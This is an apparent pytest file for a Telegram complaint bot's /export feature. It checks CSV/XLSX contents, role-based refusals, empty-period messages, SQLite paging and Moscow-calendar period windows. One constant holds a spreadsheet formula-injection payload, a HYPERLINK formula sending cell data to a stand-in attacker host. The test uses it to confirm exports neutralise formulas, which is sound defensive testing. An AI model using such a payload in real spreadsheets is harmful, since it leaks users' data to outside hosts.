"""/export end to end: a director gets the period's complaints as a CSV and an XLSX document
through the stand-in Bot API, read back byte for byte; managers and clients are refused; an
empty period is one clear line, not empty files. Below them, the core on its own: paging over
a real SQLite file, and periods as whole days on the company's calendar."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl

from bot.core.export import Exports, Period, window
from bot.views.texts import Texts
from storage import tickets
from storage.db import Database
from tests.conftest import CLIENT, CLIENT2, DIRECTOR, MANAGER, STRANGER, TEAM, Clock, StartBot
from tests.helpers import button, new_ticket
from tests.schedule_helpers import TICK, clock_at, count, settle
from tests.standin import BotMessage, StandInTelegram

People = dict[int, dict[str, Any]]
ENV = {"SCHEDULER_TICK_SECONDS": TICK, "FOLLOW_UP_DAYS": "0.001"}  # asked after 86.4 s
ASK = "Всё ли теперь в порядке?"
MOSCOW = ZoneInfo("Europe/Moscow")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Скидка тут")'


def documents(tg: StandInTelegram, chat_id: int) -> list[BotMessage]:
    return [m for m in tg.bot_messages(chat_id) if m.kind == "document"]


def _now(tg: StandInTelegram, message: BotMessage) -> BotMessage:
    return next(m for m in tg.bot_messages(message.chat_id) if m.message_id == message.message_id)


async def _export(tg: StandInTelegram, people: People, command: str) -> list[BotMessage]:
    """The two documents a director's /export brings (CSV first)."""
    before = len(documents(tg, DIRECTOR))
    tg.send_command(people[DIRECTOR], command)
    await tg.wait_for(lambda: len(documents(tg, DIRECTOR)) >= before + 2, timeout=15)
    return documents(tg, DIRECTOR)[before:]


def _csv(tg: StandInTelegram, message: BotMessage) -> list[dict[str, str]]:
    data = tg.file_bytes(message)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _xlsx(tg: StandInTelegram, message: BotMessage) -> list[dict[str, Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(tg.file_bytes(message))).active
    header, *body = sheet.iter_rows()
    names = [cell.value for cell in header]
    return [{name: cell for name, cell in zip(names, line, strict=True)} for line in body]


async def _late_reopened_ticket(tg: StandInTelegram, people: People) -> None:
    """Ticket 1: the manager takes and answers it and promises "tomorrow at 10"."""
    await new_ticket(tg, people[CLIENT], "Не работает душ в мужской раздевалке", DIRECTOR)
    tg.send_command(people[MANAGER], "/claim 1")
    await tg.wait_message(MANAGER, contains="№1 теперь ваше")
    tg.send_command(people[MANAGER], "/reply 1 Простите! Уже чиним")
    await tg.wait_for(lambda: count(tg, CLIENT, "Уже чиним") == 1)
    tg.send_command(people[MANAGER], "/due 1 завтра в 10")
    await tg.wait_message(MANAGER, contains="Точка контроля №1")


async def _rated_ticket(tg: StandInTelegram, people: People, clock: Clock) -> None:
    """Ticket 2: answered and closed at once; the client says all is fine and gives 4 stars."""
    await new_ticket(tg, people[CLIENT2], "Кондиционер в номере шумит", DIRECTOR)
    tg.send_command(people[MANAGER], "/claim 2")
    await tg.wait_message(MANAGER, contains="№2 теперь ваше")
    tg.send_command(people[MANAGER], "/reply 2 Простите! Заменили вентилятор")
    await tg.wait_for(lambda: count(tg, CLIENT2, "Заменили вентилятор") == 1)
    tg.send_command(people[DIRECTOR], "/close 2 Заменили вентилятор")
    await tg.wait_message(CLIENT2, contains="по обращению №2 решённым")
    clock.advance(timedelta(days=0.001, seconds=5))
    question = await tg.wait_message(CLIENT2, contains=ASK)
    tg.press(people[CLIENT2], question, button(tg, question, "Да, всё хорошо"))
    await tg.wait_for(lambda: "хорошо, что всё в порядке" in _now(tg, question).text)
    rating = _now(tg, question)
    tg.press(people[CLIENT2], rating, button(tg, rating, "4 ⭐"))
    await tg.wait_for(lambda: "Спасибо за оценку: 4 из 5" in _now(tg, question).text)


async def test_a_director_gets_the_week_as_csv_and_xlsx(
    tg: StandInTelegram, people: People, start_bot: StartBot
) -> None:
    clock = clock_at(2026, 11, 23, 9)  # 12:00 in Moscow
    await start_bot(clock=clock, **ENV)
    exported = [c["command"] for c in tg.commands("chat", chat_id=DIRECTOR)]
    assert "export" in exported
    assert "export" not in [c["command"] for c in tg.commands("chat", chat_id=MANAGER)]

    await _late_reopened_ticket(tg, people)
    await _rated_ticket(tg, people, clock)
    await new_ticket(tg, people[STRANGER], HOSTILE, DIRECTOR)  # ticket 3, nobody's yet

    # two days on, past the promised "tomorrow at 10": closed late, reopened, closed again
    clock.advance(timedelta(days=2))
    tg.send_command(people[DIRECTOR], "/close 1 Починили смеситель")
    await tg.wait_message(DIRECTOR, contains="Обращение №1 закрыто")
    tg.send_text(people[CLIENT], "Опять течёт")
    await tg.wait_message(MANAGER, contains="Опять течёт")
    tg.send_command(people[MANAGER], "/close 1 Заменили смеситель")
    await tg.wait_for(lambda: count(tg, CLIENT, "по обращению №1 решённым") == 2)
    await settle()

    sheet_csv, sheet_xlsx = await _export(tg, people, "/export week")
    # the week is today and the six days before it, on Moscow's calendar
    assert sheet_csv.file_name == "firsthand-2026-11-19_2026-11-25.csv"
    assert sheet_xlsx.file_name == "firsthand-2026-11-19_2026-11-25.xlsx"
    assert "с 19.11.2026 по 25.11.2026: 3 обращения" in sheet_csv.text

    lines = _csv(tg, sheet_csv)
    assert [line["№"] for line in lines] == ["1", "2", "3"]
    late, rated, hostile = lines
    assert late["Источник"] == "Личные сообщения"
    assert late["Клиент"] == "Анна (@anna)"
    assert late["Текст обращения"] == "Не работает душ в мужской раздевалке"
    assert late["Создано"].startswith("23.11.2026 12:0")
    assert late["Первый ответ"].startswith("23.11.2026 12:")
    assert late["Минут до первого ответа"] == "0"
    assert late["Ответственный"] == "Мария"
    assert late["Точка контроля"] == late["Все точки контроля"] == "24.11.2026 10:00"
    assert late["Срок"] == "пропущен"
    assert late["Итог"] == "Заменили смеситель"
    assert late["Закрыто"].startswith("25.11.2026 12:")
    assert late["Переоткрыто, раз"] == "1"
    assert late["Ответ клиента после закрытия"] == "" and late["Оценка"] == ""

    assert rated["Клиент"] == "Пётр" and rated["Статус"] == "Решено"
    assert rated["Итог"] == "Заменили вентилятор"
    assert rated["Ответ клиента после закрытия"] == "всё в порядке"
    assert rated["Оценка"] == "4"
    assert rated["Срок"] == "" and rated["Точка контроля"] == ""
    assert rated["Переоткрыто, раз"] == "0"

    assert hostile["Текст обращения"] == "'" + HOSTILE  # text, never a formula
    assert hostile["Клиент"] == "Чужой" and hostile["Статус"] == "Новое"
    assert hostile["Ответственный"] == "" and hostile["Закрыто"] == ""

    rows = _xlsx(tg, sheet_xlsx)
    assert [row["№"].value for row in rows] == [1, 2, 3]
    created = rows[0]["Создано"].value
    assert isinstance(created, datetime)
    assert (created.date().isoformat(), created.hour) == ("2026-11-23", 12)  # Moscow, naive
    assert rows[0]["Минут до первого ответа"].value == 0
    assert rows[0]["Минут до первого ответа"].data_type == "n"
    assert rows[0]["Точка контроля"].value == datetime(2026, 11, 24, 10, 0)
    assert rows[0]["Срок"].value == "пропущен"
    assert rows[1]["Оценка"].value == 4
    assert rows[2]["Текст обращения"].data_type == "s"
    assert rows[2]["Текст обращения"].value == "'" + HOSTILE


async def test_managers_clients_and_the_team_chat_get_no_files(
    tg: StandInTelegram, people: People, start_bot: StartBot
) -> None:
    await start_bot(TEAM_CHAT_ID=TEAM)
    await new_ticket(tg, people[CLIENT], "Грязно в бассейне", DIRECTOR)
    tg.send_command(people[MANAGER], "/export all")
    await tg.wait_message(MANAGER, contains="только для директоров")
    tg.send_command(people[CLIENT], "/export")
    await tg.wait_for(lambda: len(tg.bot_messages(CLIENT)) >= 2)
    # a director in the team chat: every client's words are not for everyone there
    tg.send_command(people[DIRECTOR], "/export all", chat=TEAM)
    await tg.wait_message(TEAM, contains="Выгрузку пришлю только в личные сообщения")
    await settle()
    assert not documents(tg, MANAGER) and not documents(tg, CLIENT)
    assert not documents(tg, TEAM)
    assert not tg.calls_to("sendDocument")


async def test_an_empty_period_is_one_clear_line(
    tg: StandInTelegram, people: People, start_bot: StartBot
) -> None:
    clock = clock_at(2026, 11, 23, 9)
    await start_bot(clock=clock)
    tg.send_command(people[DIRECTOR], "/export all")
    await tg.wait_message(DIRECTOR, contains="Обращений пока нет: выгружать нечего.")
    tg.send_command(people[DIRECTOR], "/export year")
    await tg.wait_message(DIRECTOR, contains="Формат: /export [week|month|all]")

    await new_ticket(tg, people[CLIENT], "Сломан замок шкафчика", DIRECTOR)
    clock.advance(timedelta(days=10))
    tg.send_command(people[DIRECTOR], "/export")
    await tg.wait_message(
        DIRECTOR, contains="С 27.11.2026 по 03.12.2026 обращений не было: выгружать нечего."
    )
    await settle()
    assert not tg.calls_to("sendDocument")

    # the ticket is still there for "all", which runs from its day to today
    sheet_csv, sheet_xlsx = await _export(tg, people, "/export all")
    assert sheet_csv.file_name == "firsthand-2026-11-23_2026-12-03.csv"
    assert [line["Текст обращения"] for line in _csv(tg, sheet_csv)] == ["Сломан замок шкафчика"]
    assert [row["№"].value for row in _xlsx(tg, sheet_xlsx)] == [1]
    month = await _export(tg, people, "/export месяц")
    assert month[0].file_name == "firsthand-2026-11-04_2026-12-03.csv"


async def test_pages_of_a_large_export_all_reach_the_files(tmp_path: Path) -> None:
    """The core over a real SQLite file in pages of two: every complaint, once, in order;
    "all" is named from the earliest complaint's day in Moscow to today."""
    db = await Database.open(tmp_path / "export.db")
    try:
        async with db.transaction() as conn:
            for n in range(5):
                created = datetime(2026, 11, 1, 21, 30, tzinfo=UTC) + timedelta(days=n)
                await tickets.insert(
                    conn,
                    source="telegram",
                    external_id=f"{CLIENT}:{n}",
                    author_id=CLIENT,
                    author_name="Анна",
                    client_chat_id=CLIENT,
                    text=f"жалоба {n}",
                    link=None,
                    now=created,
                )
        moment = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
        exports = Exports(db, Texts("ru"), MOSCOW, clock=lambda: moment, page_size=2)
        files = await exports.build(Period.ALL)
        assert files.count == 5
        assert files.name == "firsthand-2026-11-02_2026-11-23"  # 21:30 UTC is 00:30 in Moscow
        lines = list(csv.reader(io.StringIO(files.csv.decode("utf-8-sig")), delimiter=";"))
        assert [line[0] for line in lines[1:]] == ["1", "2", "3", "4", "5"]
        sheet = openpyxl.load_workbook(io.BytesIO(files.xlsx)).active
        assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [1, 2, 3, 4, 5]
        assert (await exports.build(Period.WEEK)).count == 0
    finally:
        await db.close()


def test_periods_are_whole_days_on_the_company_calendar() -> None:
    # 23:30 in Moscow on 4 December is already "today" there, though still the 4th in UTC
    now = datetime(2026, 12, 4, 20, 30, tzinfo=UTC)
    week = window(Period.WEEK, now, MOSCOW)
    assert (week.first, week.last) == (date(2026, 11, 28), date(2026, 12, 4))
    assert week.since == datetime(2026, 11, 27, 21, 0, tzinfo=UTC)
    assert week.until == datetime(2026, 12, 4, 21, 0, tzinfo=UTC)
    month = window(Period.MONTH, now, MOSCOW)
    assert (month.first, month.last) == (date(2026, 11, 5), date(2026, 12, 4))
    everything = window(Period.ALL, now, MOSCOW)
    assert (everything.first, everything.since, everything.last) == (None, None, date(2026, 12, 4))
    later = window(Period.WEEK, now + timedelta(hours=1), MOSCOW)  # 00:30 on the 5th in Moscow
    assert (later.first, later.last) == (date(2026, 11, 29), date(2026, 12, 5))
